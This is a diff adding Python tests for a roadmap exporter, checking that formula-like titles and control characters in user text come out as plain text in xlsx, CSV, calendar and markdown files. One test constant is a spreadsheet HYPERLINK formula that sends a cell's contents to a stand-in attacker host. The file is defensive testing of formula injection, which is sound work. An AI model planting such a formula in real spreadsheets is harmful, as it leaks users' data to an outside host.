@@ -2,9 +2,14 @@
 
 from __future__ import annotations
 
+import csv
+import dataclasses
 import json
 import os
 import re
+import shutil
+import subprocess
+import unicodedata
 from pathlib import Path
 
 import icalendar
@@ -165,6 +170,157 @@ def test_exports_are_deterministic(audit: Audit) -> None:
     first, second = build_roadmap(audit), build_roadmap(audit.model_copy(deep=True))
     for extension in (".csv", ".ics", ".md"):
         assert export.FORMATS[extension](first, Language.FR) == export.FORMATS[extension](second, Language.FR)
+
+
+# -- what a user types is shown as typed, never run -----------------------------------------------------
+
+PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&B2,"Click")'
+TYPED_TITLES = (PAYLOAD, "+1", "-1+2", "@SUM(A1)", "\uff1d1+1")
+"""Titles of hand-added actions that a spreadsheet would read as formulas (the last one full-width)."""
+TYPED_DESCRIPTION = "\tTab first\r\nthen a second line"
+"""A description a spreadsheet would read as a formula (titles are one line: they hold no tab)."""
+SHOWN_DESCRIPTION = "\tTab first\nthen a second line"
+TYPED_CLIENT = "Boulangerie\x0bMartin\x07"
+"""A client name holding Word's Shift+Enter (vertical tab) and a bell character."""
+SHOWN_CLIENT = "Boulangerie\nMartin"
+
+
+@pytest.fixture(scope="module")
+def hostile() -> Roadmap:
+    """The bakery with actions added by hand under formula-like texts, and a client name holding control
+    characters (set on the built roadmap, as the model refuses it: the exports must hold whatever text
+    reaches them)."""
+    audit = store.load(BAKERY)
+    for title in TYPED_TITLES:
+        add_action(audit, 1, title_en=title, title_fr=title, description_en=TYPED_DESCRIPTION)
+    return dataclasses.replace(build_roadmap(audit), client=TYPED_CLIENT)
+
+
+def control_characters(text: str) -> set[str]:
+    """The control characters of ``text`` other than tab and line breaks."""
+    return {char for char in text if unicodedata.category(char) == "Cc" and char not in "\t\n\r"}
+
+
+def test_workbook_has_no_formula_and_shows_every_text_as_typed(hostile: Roadmap, tmp_path: Path) -> None:
+    path = export.write_roadmap(hostile, tmp_path / "plan.xlsx", "en")
+    workbook = openpyxl.load_workbook(path)
+    texts: dict[str, openpyxl.cell.cell.Cell] = {}
+    for sheet in workbook.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
+                if isinstance(cell.value, str):
+                    assert cell.data_type == "s", (sheet.title, cell.coordinate, cell.value)
+                    assert not control_characters(cell.value), (sheet.title, cell.coordinate)
+                    texts.setdefault(cell.value, cell)
+                elif cell.value is not None:
+                    assert cell.data_type in {"n", "d"}, (sheet.title, cell.coordinate, cell.value)
+    for typed in (*TYPED_TITLES, SHOWN_DESCRIPTION):
+        assert typed in texts, typed
+        assert texts[typed].quotePrefix, typed
+    assert "Client: " + SHOWN_CLIENT in texts
+    assert not texts["Client: " + SHOWN_CLIENT].quotePrefix
+    assert workbook.properties.title == "Roadmap: " + SHOWN_CLIENT
+    effort = workbook["Month 1"].cell(row=2, column=5)
+    assert effort.data_type == "n" and isinstance(effort.value, float | int)
+
+
+def test_csv_quotes_every_cell_a_spreadsheet_would_read_as_a_formula(
+    hostile: Roadmap, tmp_path: Path
+) -> None:
+    path = export.write_roadmap(hostile, tmp_path / "plan.csv", "en")
+    with path.open(encoding="utf-8-sig", newline="") as file:
+        rows = list(csv.DictReader(file))
+    titles = {row["title"] for row in rows}
+    for title in TYPED_TITLES:
+        assert "'" + title in titles, title
+    assert "'" + SHOWN_DESCRIPTION in {row["description"] for row in rows}
+    for row in rows:
+        for column, value in row.items():
+            assert value[:1] not in export.FORMULA_STARTS, (row["id"], column, value)
+            assert not control_characters(value), (row["id"], column)
+    assert all(re.fullmatch(r"\d+(\.\d+)?", row["effort_hours"]) for row in rows)
+
+
+def test_calendar_and_markdown_hold_no_control_character(hostile: Roadmap, tmp_path: Path) -> None:
+    ics = export.write_roadmap(hostile, tmp_path / "plan.ics", "en").read_bytes().decode("utf-8")
+    assert not control_characters(ics)
+    calendar = icalendar.Calendar.from_ical(ics)
+    assert str(calendar["X-WR-CALNAME"]) == "Roadmap: Boulangerie Martin"
+    summaries = {str(event["SUMMARY"]) for event in calendar.walk("VEVENT")}
+    scheduled = {action.title("en") for action in hostile.actions}
+    assert {export.one_line(title) for title in scheduled & set(TYPED_TITLES)} <= summaries
+    markdown = export.write_roadmap(hostile, tmp_path / "plan.md", "en").read_text("utf-8")
+    assert not control_characters(markdown)
+    assert markdown.startswith("# Roadmap: Boulangerie Martin\n")
+
+
+@pytest.mark.parametrize(
+    ("typed", "kept"),
+    [
+        ("plain", "plain"),
+        ("tab\tinside", "tab\tinside"),
+        ("two\r\nlines\rthree", "two\nlines\nthree"),
+        ("Word\x0bline\x0cbreak", "Word\nline\nbreak"),
+        ("nul\x00 bell\x07 esc\x1b del\x7f c1\x9b", "nul bell esc del c1"),
+    ],
+)
+def test_clean_text_keeps_tabs_and_line_breaks_and_drops_other_controls(typed: str, kept: str) -> None:
+    assert export.clean_text(typed) == kept
+
+
+def test_one_line_turns_line_breaks_into_spaces_and_keeps_no_break_spaces() -> None:
+    assert export.one_line("Boulangerie \x0b Martin\r\n\n Paris\x07") == "Boulangerie Martin Paris"
+    assert export.one_line("Objectifs\u00a0: plus\u202f!") == "Objectifs\u00a0: plus\u202f!"
+
+
+@pytest.mark.parametrize(
+    ("value", "written"),
+    [
+        (PAYLOAD, "'" + PAYLOAD),
+        ("+1", "'+1"),
+        ("-1+2", "'-1+2"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tTab first", "'\tTab first"),
+        ("\r=1+1", "\n=1+1"),
+        ("\uff20SUM(A1)", "'\uff20SUM(A1)"),
+        ("a = b", "a = b"),
+        ("", ""),
+        (-1.5, -1.5),
+        (0, 0),
+        (True, True),
+    ],
+)
+def test_csv_cell_quotes_formulas_and_leaves_numbers_alone(value: object, written: object) -> None:
+    assert export.csv_cell(value) == written
+
+
+@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice (soffice) is not installed")
+def test_libreoffice_reads_the_payload_as_text(hostile: Roadmap, tmp_path: Path) -> None:
+    """LibreOffice, headless, converts every sheet to CSV: the payload comes out as typed, not evaluated."""
+    workbook = export.write_roadmap(hostile, tmp_path / "plan.xlsx", "en")
+    every_sheet_as_utf8 = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1"
+    subprocess.run(
+        [
+            "soffice",
+            f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}",
+            "--headless",
+            "--convert-to",
+            every_sheet_as_utf8,
+            "--outdir",
+            str(tmp_path / "out"),
+            str(workbook),
+        ],
+        check=True,
+        capture_output=True,
+        timeout=180,
+    )
+    cells = set()
+    for sheet in (tmp_path / "out").glob("*.csv"):
+        with sheet.open(encoding="utf-8-sig", newline="") as file:
+            cells |= {cell for row in csv.reader(file) for cell in row}
+    assert PAYLOAD in cells
+    assert "Click" not in cells
 
 
 def test_unknown_extension_is_refused_and_nothing_is_written(roadmap: Roadmap, tmp_path: Path) -> None:
